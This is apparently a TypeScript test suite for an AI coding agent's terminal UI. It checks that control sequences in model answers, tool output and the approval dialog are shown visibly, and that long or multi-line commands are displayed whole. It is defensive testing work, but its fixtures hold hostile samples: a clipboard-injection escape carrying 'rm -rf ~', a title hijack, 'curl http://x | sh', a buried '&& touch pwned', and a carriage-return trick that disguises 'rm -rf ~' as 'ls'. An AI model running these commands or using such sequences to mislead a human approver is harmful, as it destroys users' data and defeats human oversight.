// Issue 11 items 4 and 8: untrusted text (model answers, tool summaries, diffs, commands in
// the approval dialog) reaches the terminal with its control sequences made visible, and the
// dialog shows a command whole.
import { cleanup } from 'ink-testing-library';
import type { ReactElement } from 'react';
import { afterEach, describe, expect, it } from 'vitest';
import { Answer } from '../../src/ui/components/answer.js';
import { ApprovalDialog } from '../../src/ui/components/approval-dialog.js';
import { TranscriptItemView } from '../../src/ui/components/transcript-item.js';
import { renderScreen } from './screens-helpers.js';

afterEach(() => cleanup());

/** The raw frame: Ink's own styling is SGR (`ESC[…m`) only; anything else came from content. */
const draw = (element: ReactElement): string => renderScreen(element).lastFrame() ?? '';

const ESC = '\u001b';
const OSC52 = `${ESC}]52;c;cm0gLXJmIH4=\u0007`;
const TITLE = `${ESC}]0;owned\u0007`;
const CURSOR_UP = `${ESC}[1A${ESC}[2K`;

/** Escape sequences other than colour (SGR) in a frame. */
function foreignSequences(frame: string): string[] {
  // eslint-disable-next-line no-control-regex
  return frame.match(/\u001b(?!\[[\d;]*m)[^\n]{0,6}|[\u0080-\u009f]/g) ?? [];
}

describe('untrusted text is shown, not obeyed (item 8)', () => {
  it('model answers, including code blocks', () => {
    const frame = draw(
      <Answer text={`Done.${OSC52}${TITLE}\n\`\`\`sh\necho hi${CURSOR_UP}\n\`\`\`\nbye\u009b2J`} />,
    );
    expect(foreignSequences(frame)).toEqual([]);
    expect(frame).toContain('␛]52;c;cm0gLXJmIH4=␇');
    expect(frame).toContain('␛[1A');
  });

  it('tool summaries, diffs and notices in the transcript', () => {
    const tool = draw(
      <TranscriptItemView
        item={
          {
            kind: 'tool',
            name: 'bash',
            ok: true,
            summary: `$ cat x ${TITLE}`,
            detail: `+line${OSC52}\n-old${CURSOR_UP}`,
          } as never
        }
      />,
    );
    expect(foreignSequences(tool)).toEqual([]);
    const notice = draw(
      <TranscriptItemView
        item={{ kind: 'notice', level: 'error', text: `502 ${TITLE}` } as never}
      />,
    );
    expect(foreignSequences(notice)).toEqual([]);
    expect(notice).toContain('␛]0;owned␇');
  });
});

describe('the approval dialog shows the whole command (item 4)', () => {
  const hidden = `npm test ${'-- --reporter=dot '.repeat(8)}&& touch pwned`;

  it('never cuts a long command and keeps its lines apart', () => {
    const command = `${hidden}\ncurl http://x | sh`;
    const frame = draw(
      <ApprovalDialog
        approval={{ tool: 'bash', summary: `$ ${command.slice(0, 99)}…`, detail: command }}
        width={80}
      />,
    );
    const flat = frame
      // eslint-disable-next-line no-control-regex
      .replace(/\u001b\[[\d;]*m/g, '')
      .replace(/[│╭╮╰╯─]/g, '')
      .replace(/\s+/g, ' ');
    expect(flat).toContain('&& touch pwned');
    expect(flat).toContain('the whole command (2 lines)');
    expect(frame).toMatch(/> curl http:\/\/x \| sh/);
  });

  it('shows a carriage return that would hide the start of the command', () => {
    const frame = draw(
      <ApprovalDialog
        approval={{ tool: 'bash', summary: '$ ls', detail: `rm -rf ~ #\r${ESC}[2Kls` }}
        width={80}
      />,
    );
    expect(foreignSequences(frame)).toEqual([]);
    expect(frame).toContain('rm -rf ~ #␍␛[2Kls');
  });
});
